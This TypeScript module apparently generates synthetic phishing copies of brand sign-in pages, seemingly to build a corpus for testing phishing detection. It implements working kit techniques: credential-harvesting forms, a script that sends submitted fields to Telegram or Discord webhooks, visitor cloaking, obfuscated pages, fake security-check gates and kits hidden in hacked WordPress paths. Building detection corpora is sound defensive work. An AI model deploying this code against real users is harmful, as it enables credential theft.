import { logoAsset, logoExtension, makeCompany, type Asset, type Company } from "./companies.ts";
import type { Dice } from "./dice.ts";
import { blank, paint, pngOf, write } from "./drawing.ts";
import {
  captchaGate,
  emailStep,
  genericWebmail,
  handMade,
  hiddenBefore,
  padded,
  singlePage,
  splitWords,
  translationProxy,
} from "./evasions.ts";
import { folder } from "./hosts.ts";
import {
  hostOf,
  hotLinked,
  kept,
  mailerFor,
  original,
  page,
  plainHtml,
  rehosted,
  rendered,
  servers,
  startOf,
  withAddresses,
  withMailer,
  type Copy,
  type Kit,
} from "./kit.ts";
import { kitFooter, minimalKit } from "./kit-pages.ts";
import { deliveryFee, followers, giveaway, poll, prize, sharedDocument } from "./lures.ts";
import { encodings, runtimeEncodings } from "./obfuscation.ts";
import { assetsOf, formMarkup, iconPath, logoMarkup, origin, pageOf, pathOf } from "./pages.ts";
import { responder, type Content, type Site } from "./site.ts";
import { skinNames } from "./skins.ts";
import { languages, paragraph, phrase } from "./words.ts";

/** Classes of copies with their shares. */
const classes: Record<string, { share: number; make: (kit: Kit) => Copy }> = {
  verbatim: { share: 6, make: (kit) => kept(kit, rehosted(kit, original(kit))) },
  hot_linked: { share: 6, make: (kit) => kept(kit, hotLinked(kit, original(kit))) },
  saved_page: { share: 5, make: savedPage },
  rewritten_text: {
    share: 6,
    make: (kit) =>
      kept(
        kit,
        rehosted(
          kit,
          pageOf(rendered(kit), kit.role, { text: kit.dice.fork("other text"), visit: kit.dice.below(99) }),
        ),
      ),
  },
  inlined_images: {
    share: 5,
    make: (kit) => ({ contents: new Map([page(kit, (html) => inlined(kit, html))]) }),
  },
  other_language: { share: 5, make: otherLanguage },
  obfuscated: { share: 7, make: obfuscated },
  script_only: { share: 4, make: scriptOnly },
  image_only: { share: 4, make: imageOnly },
  trimmed_form: { share: 6, make: trimmed },
  webmail_kit: { share: 3, make: webmail },
  gate: { share: 4, make: gate },
  cloaked: { share: 5, make: cloaked },
  frame: { share: 3, make: framed },
  scrambled: { share: 5, make: scrambled },
  changed_logo: { share: 4, make: changedLogo },
  minimal_kit: { share: 7, make: minimalKit },
  deep_path: { share: 4, make: deepPath },
  messenger: { share: 3, make: messenger },
  redirect_chain: { share: 3, make: redirectChain },
  new_page: { share: 6, make: newPage },
  first_step: { share: 3, make: firstStep },
  padded: { share: 4, make: padded },
  split_words: { share: 4, make: splitWords },
  hidden_before: { share: 3, make: hiddenBefore },
  captcha_gate: { share: 4, make: captchaGate },
  translation_proxy: { share: 2, make: translationProxy },
  email_step: { share: 4, make: emailStep },
  generic_webmail: { share: 3, make: genericWebmail },
  hand_made: { share: 6, make: handMade },
  single_page: { share: 2, make: singlePage },
  lure_poll: { share: 2, make: poll },
  lure_prize: { share: 2, make: prize },
  lure_followers: { share: 2, make: followers },
  lure_giveaway: { share: 2, make: giveaway },
  lure_delivery: { share: 2, make: deliveryFee },
  lure_document: { share: 3, make: sharedDocument },
};
export const copyClasses: Record<string, number> = Object.fromEntries(
  Object.entries(classes).map(([name, { share }]) => [name, share]),
);

export function makeCopy(
  dice: Dice,
  {
    name,
    brand,
    index,
    screenshot,
  }: {
    name: string;
    brand: Company;
    index: number;
    screenshot: (domain: string) => Uint8Array<ArrayBuffer> | undefined;
  },
): Site {
  const owner = makeCompany(dice.fork("owner"), {
    kind: dice.fork("owner kind").pick(["craft", "club", "shop"]),
    language: brand.language,
    skins: skinNames,
  });
  const host = hostOf(dice.fork("host"), { brand, owner, index });
  const own = dice.fork("folder");
  const kit: Kit = {
    dice,
    brand,
    host,
    folder: own.chance(0.12) ? `/${brand.label}${folder(own)}` : folder(own),
    role: dice.fork("role").pick(["sign_in", "sign_in", "sign_in", "sign_in", "payment", "home"] as const),
    mailer: mailerFor(dice.fork("mailer")),
    owner,
    screenshot: () => screenshot(brand.domain),
  };
  const { contents, start, needsBrowser, aliases, scheme } = classes[name]!.make(kit);
  const secure = scheme === undefined && dice.fork("scheme").chance(0.7);
  return {
    host,
    aliases: aliases ?? [],
    class: name,
    kind: "copy",
    protectedDomain: brand.domain,
    start:
      start?.includes("://") === true
        ? start
        : `${secure ? "https" : "http"}://${host}${start ?? startOf(kit)}`,
    needsBrowser: needsBrowser ?? false,
    respond: responder(() => contents, dice.fork("server").pick(servers)),
  };
}

function inlined(kit: Kit, html: string): string {
  const assets = assetsOf(kit.brand);
  return withAddresses(withMailer(kit, html), (path) => {
    const asset = assets.get(path);
    if (asset === undefined || asset.type === "text/javascript" || asset.type === "image/webp")
      return origin(kit.brand) + path;
    const body = asset.body();
    return `data:${asset.type};base64,${Buffer.from(body as Uint8Array).toString("base64")}`;
  });
}

function savedPage(kit: Kit): Copy {
  const title = `${kit.brand.name}_files`.replaceAll(" ", "%20");
  const contents = new Map<string, Content>();
  const html = withAddresses(withMailer(kit, original(kit)), (path) => {
    const file = `${title}/${path.split("/").at(-1)}`;
    const asset = assetsOf(kit.brand).get(path);
    if (asset !== undefined) contents.set(startOf(kit).replace(/[^/]*$/, file), asset);
    return `./${file}`;
  });
  const note = kit.dice.chance(0.5)
    ? `<!-- saved from url=(0040)${origin(kit.brand)}${pathOf(kit.brand, kit.role)} -->\n`
    : "";
  return {
    contents: contents.set(startOf(kit), html.replace("<html", `${note}<html`)),
    needsBrowser: rendered(kit).isScripted,
  };
}

function otherLanguage(kit: Kit): Copy {
  const language = kit.dice.pick(languages.filter((one) => one !== kit.brand.language));
  const html = pageOf({ ...kit.brand, isScripted: false }, kit.role, {
    language,
    text: kit.dice.fork("translation"),
  });
  return kept(kit, kit.dice.chance(0.5) ? rehosted(kit, html) : hotLinked(kit, html));
}

function obfuscated(kit: Kit): Copy {
  const name = kit.dice.pick(Object.keys(encodings) as (keyof typeof encodings)[]);
  const script = encodings[name](plainHtml(kit), kit.dice);
  return kept(
    kit,
    `<html><head>${kit.dice.chance(0.3) ? "<title>Loading</title>" : ""}</head><body><script>\n${script}\n</script></body></html>`,
  );
}

function scriptOnly(kit: Kit): Copy {
  const html = plainHtml(kit);
  const kind = kit.dice.pick(["xor", "shifted", "fetched", "module"] as const);
  if (kind === "xor" || kind === "shifted")
    return {
      ...kept(kit, `<html><body><script>${runtimeEncodings[kind](html, kit.dice)}</script></body></html>`),
      needsBrowser: true,
    };
  const data = `${kit.folder}/${kit.dice.letters(5)}.${kind === "fetched" ? "json" : "js"}`;
  const code =
    kind === "fetched"
      ? `<script>fetch("${data}").then(r=>r.json()).then(d=>{document.open();document.write(d.page);document.close()})</script>`
      : `<div id="app"></div><script src="${data}"></script>`;
  const copy = kept(
    kit,
    `<!doctype html><html><head><meta charset="utf-8"></head><body>${code}</body></html>`,
  );
  const asset: Asset =
    kind === "fetched"
      ? { type: "application/json", body: () => JSON.stringify({ page: html }) }
      : {
          type: "text/javascript",
          body: () => `document.getElementById("app").innerHTML=${JSON.stringify(html)};`,
        };
  copy.contents.set(data, asset);
  return { ...copy, needsBrowser: true };
}

/** One picture of the whole page, with a form or a map in front of it. */
function imageOnly(kit: Kit): Copy {
  const own = kit.dice;
  const file = `${kit.folder}/${own.pick(["bg", "back", "page", "img1", own.letters(6)])}`;
  const isBehind = own.chance(0.5);
  const title = own.pick([kit.brand.name, phrase(kit.brand.language, "signIn"), "", "Welcome"]);
  const form = `<form action="${kit.mailer}" method="post" style="position:absolute;left:${own.between(380, 560)}px;top:${own.between(240, 380)}px"><input name="u" style="display:block;margin:8px;width:220px"><input name="p" type="password" style="display:block;margin:8px;width:220px"><input type="submit" value=" "></form>`;
  const picture = isBehind
    ? `<body style="margin:0;background:url(${file}) no-repeat top center">${form}`
    : `<body style="margin:0"><img src="${file}" usemap="#m" style="display:block;max-width:100%"><map name="m"><area shape="rect" coords="300,200,800,600" href="${kit.mailer || "next"}"></map>${own.chance(0.5) ? form : ""}`;
  const drawn: Asset = { type: "image/png", body: () => kit.screenshot() ?? drawnPage(kit.brand) };
  return {
    contents: new Map<string, Content>([
      [startOf(kit), `<html><head><title>${title}</title></head>${picture}</body></html>`],
      [file, drawn],
    ]),
    needsBrowser: true,
  };
}

/** A picture that resembles the sign-in page, for lack of a screenshot. */
function drawnPage(brand: Company): Uint8Array<ArrayBuffer> {
  const raster = blank(1280, 800, "#ffffff");
  const gray = {
    kind: "box",
    round: 0,
    x: 0,
    y: 0,
    width: 100,
    height: 12,
    color: brand.colors.main,
  } as const;
  paint(raster, [gray], 440, 480, 400);
  paint(raster, brand.mark, 440, 60, 72);
  write(raster, brand.name, { left: 530, top: 80, height: 34, color: brand.colors.ink });
  for (const top of [260, 340])
    paint(
      raster,
      [
        { ...gray, color: "#bbbbbb" },
        { ...gray, x: 0.5, y: 0.5, width: 99, height: 11, color: "#ffffff" },
      ],
      440,
      top,
      400,
    );
  return pngOf(raster);
}

/** Only the form of the original, in a page of the kit's own. */
function trimmed(kit: Kit): Copy {
  const form = formMarkup(kit.brand, kit.role === "home" ? "sign_in" : kit.role);
  const { brand, dice } = kit;
  const logo = dice.chance(0.8) ? logoMarkup(brand) : `<h1>${brand.name}</h1>`;
  const title = dice.pick([
    brand.name,
    `${brand.name} - ${phrase(brand.language, "signIn")}`,
    phrase(brand.language, "signIn"),
  ]);
  const start = `<!doctype html><html><head><title>${title}</title><link rel="icon" href="${iconPath(brand)}"><link rel="stylesheet" href="${brand.paths.style}"></head><body>${logo}${form}${dice.chance(0.5) ? kitFooter(kit) : ""}</body></html>`;
  return kept(kit, rehosted(kit, start));
}

function webmail(kit: Kit): Copy {
  const { brand, dice } = kit;
  const others = Array.from({ length: 4 }, (_, number) =>
    makeCompany(dice.fork(`other ${number}`), { kind: "mail", language: "en", skins: skinNames }),
  );
  const table = dice
    .some([...others, brand], 5)
    .map(
      (one) =>
        `"${one.domain}":{"name":"${one.name}","logo":"${origin(one)}${one.paths.logo}.${logoExtension(one)}"}`,
    );
  const email = `${dice.letters(5)}@${brand.domain}`;
  const [mark, value] = dice.pick([
    ["#", email],
    ["#", email],
    ["?email=", email],
    ["#", Buffer.from(email).toString("base64")],
  ]);
  const script = `var brands={${table.join(",")}};var m=location.hash.slice(1)||new URLSearchParams(location.search).get("email")||"";if(m.indexOf("@")<0)try{m=atob(m)}catch(e){}var b=brands[m.split("@")[1]];if(b){document.title=b.name;document.getElementById("logo").src=b.logo;document.getElementById("email").value=m}`;
  const html = `<html><head><title>Webmail</title></head><body><div class="box"><img id="logo" src="mail.png"><h2>Sign in to continue</h2><p>Your session has expired. Enter your password to read your messages.</p><form action="${kit.mailer}" method="post"><input id="email" name="email" type="email"><input name="password" type="password" placeholder="Password"><button>Sign in</button></form></div><script>${script}</script></body></html>`;
  return { contents: new Map([[startOf(kit), html]]), start: `${startOf(kit)}${mark}${value}` };
}

/** A page before the copy: most lead on without a visitor's help, or with one link. */
function gate(kit: Kit): Copy {
  const { dice } = kit;
  const copy = kept(kit, plainHtml(kit));
  const inner = `${kit.folder}/${dice.letters(6)}.html`;
  copy.contents.set(inner, copy.contents.get(startOf(kit))!);
  const label = dice.pick([
    "Continue",
    "View document",
    "I am not a robot",
    "Open message",
    phrase(kit.brand.language, "next"),
  ]);
  const [head, body] = dice.pick([
    [
      "",
      `<p>Please wait...</p><script>setTimeout(function(){window.location.href="${inner}"},${dice.between(5, 30)}00)</script>`,
    ],
    [`<meta http-equiv="refresh" content="${dice.between(0, 4)};url=${inner}">`, "<p>Redirecting</p>"],
    [
      "",
      `<p>Checking your browser before accessing this page.</p><a class="button" href="${inner}">${label}</a>`,
    ],
    [
      "",
      `<form action="${inner}" method="get"><p>Complete the security check to continue.</p><button>${label}</button></form>`,
    ],
  ] as const);
  copy.contents.set(
    startOf(kit),
    `<html><head><title>${dice.pick(["Just a moment...", "Security check", "Loading", ""])}</title>${head}</head><body>${body}</body></html>`,
  );
  return copy;
}

function cloaked(kit: Kit): Copy {
  const copy = kept(kit, plainHtml(kit));
  const { dice, brand, owner } = kit;
  const html = plainHtml(kit);
  const language = brand.language === "en" ? "en" : brand.language;
  const rule = dice.pick(["phone", "phone", "language", "referrer", "cookie"]);
  const otherwise = dice.pick(["missing", "empty", "missing", "empty", "decoy"]);
  copy.contents.set(startOf(kit), (request) => {
    const header = (name: string) => request.headers.get(name) ?? "";
    const isShown = {
      phone: () => /iPhone|Android/.test(header("user-agent")),
      language: () => header("accept-language").toLowerCase().startsWith(language),
      referrer: () => header("referer") !== "",
      cookie: () => header("cookie").includes("v="),
    }[rule]!();
    if (isShown) return html;
    if (rule === "cookie")
      return new Response(null, {
        status: 302,
        headers: { location: startOf(kit), "set-cookie": "v=1; Path=/" },
      });
    if (otherwise === "decoy") return pageOf({ ...owner, isScripted: false }, "home");
    return new Response("", {
      status: otherwise === "missing" ? 404 : 200,
      headers: { "content-type": "text/html" },
    });
  });
  return copy;
}

function framed(kit: Kit): Copy {
  const copy = kept(kit, plainHtml(kit));
  const alias = `cdn-${kit.host.replace(/^www\./, "")}`;
  const inner = `${kit.folder}/${kit.dice.letters(5)}.html`;
  copy.contents.set(inner, copy.contents.get(startOf(kit))!);
  const source = kit.dice.chance(0.5) ? inner : `http://${alias}${inner}`;
  copy.contents.set(
    startOf(kit),
    `<html><head><title>${kit.dice.pick(["", kit.brand.name, "Welcome"])}</title></head><body style="margin:0"><iframe src="${source}" style="border:0;width:100vw;height:100vh"></iframe></body></html>`,
  );
  return { ...copy, aliases: [alias], scheme: "http" };
}

/** Random class names and hidden junk text, against fingerprints. */
function scrambled(kit: Kit): Copy {
  const own = kit.dice.fork("scramble");
  const names = new Map<string, string>();
  const html = new HTMLRewriter()
    .on("[class]", {
      element(element) {
        const changed = (element.getAttribute("class") ?? "").split(" ").map((name) => {
          if (!names.has(name)) names.set(name, own.letters(own.between(4, 9)));
          return names.get(name)!;
        });
        element.setAttribute("class", changed.join(" "));
      },
    })
    .on("div", {
      element(element) {
        if (own.chance(0.5))
          element.before(`<span style="display:none">${paragraph(own, 1)}</span>`, { html: true });
      },
    })
    .transform(plainHtml(kit));
  return kept(kit, html);
}

function changedLogo(kit: Kit): Copy {
  const { brand, dice } = kit;
  const isGray = dice.chance(0.4);
  const recolor = (color: string) => {
    const value = Number.parseInt(color.slice(1), 16);
    const [red, green, blue] = [value >> 16, (value >> 8) & 255, value & 255];
    const gray = Math.round(0.3 * red + 0.59 * green + 0.11 * blue);
    const [one, two, three] = isGray ? [gray, gray, gray] : [green, red, blue];
    return `#${[one, two, three].map((channel) => channel.toString(16).padStart(2, "0")).join("")}`;
  };
  const copy = kept(
    kit,
    rehosted(kit, pageOf({ ...brand, isScripted: false }, kit.role, { text: dice.fork("new text") })),
  );
  const change = { height: dice.pick([24, 36, 64, 90]), ...(dice.chance(0.6) ? { recolor } : {}) };
  copy.contents.set(`${kit.folder}${brand.paths.logo}.${logoExtension(brand)}`, logoAsset(brand, change));
  return copy;
}

/** A kit deep in the folders of a hacked site with a home page of its own. */
function deepPath(kit: Kit): Copy {
  const deep = {
    ...kit,
    folder: `/wp-content/plugins/${kit.dice.letters(6)}/${kit.dice.pick([kit.brand.label, kit.dice.hex(6)])}`,
  };
  const copy = kept(deep, plainHtml(deep));
  const owner = { ...kit.owner, domain: kit.host };
  copy.contents.set("/", pageOf(owner, "home"));
  for (const [path, asset] of assetsOf(owner)) copy.contents.set(path, asset);
  return { ...copy, start: startOf(deep) };
}

function messenger(kit: Kit): Copy {
  const { dice } = kit;
  const target = dice.pick([
    `https://api.telegram.org/bot${dice.between(100_000_000, 999_999_999)}:AA${dice.hex(20)}/sendMessage`,
    `https://discord.com/api/webhooks/${dice.between(1_000, 9_999)}/${dice.hex(20)}`,
  ]);
  const script = `<script>document.querySelector("form").addEventListener("submit",function(e){e.preventDefault();var d=new FormData(e.target);fetch("${target}",{method:"POST",body:JSON.stringify({text:JSON.stringify([...d])})})})</script>`;
  return kept(kit, plainHtml(kit).replace("</body>", `${script}</body>`));
}

function redirectChain(kit: Kit): Copy {
  const copy = kept(kit, plainHtml(kit));
  const short = `${kit.dice.letters(3)}${kit.host.replace(/\W/g, "").slice(-12)}.link`;
  const middle = `go.${kit.host.replace(/^www\./, "")}`;
  const token = `/${kit.dice.letters(6)}`;
  copy.contents.set(token, (request) => {
    const isFirst = request.headers.get("host")?.startsWith(short) === true;
    return new Response(null, {
      status: isFirst ? 301 : 302,
      headers: { location: isFirst ? `http://${middle}${token}` : `http://${kit.host}${startOf(kit)}` },
    });
  });
  return { ...copy, aliases: [short, middle], start: `http://${short}${token}` };
}

/** A page that the original does not have, such as a fee for a parcel, in the look of the brand. */
function newPage(kit: Kit): Copy {
  const { brand, dice } = kit;
  const html = pageOf({ ...brand, isScripted: false }, "verify", { text: dice.fork("verify") });
  return kept(kit, dice.chance(0.5) ? rehosted(kit, html) : hotLinked(kit, html));
}

function firstStep(kit: Kit): Copy {
  const html = pageOf({ ...kit.brand, isScripted: false, isTwoStep: true }, "sign_in");
  return kept(kit, dice50(kit) ? rehosted(kit, html) : hotLinked(kit, html));
}

const dice50 = ({ dice }: Kit) => dice.fork("links to original").chance(0.5);
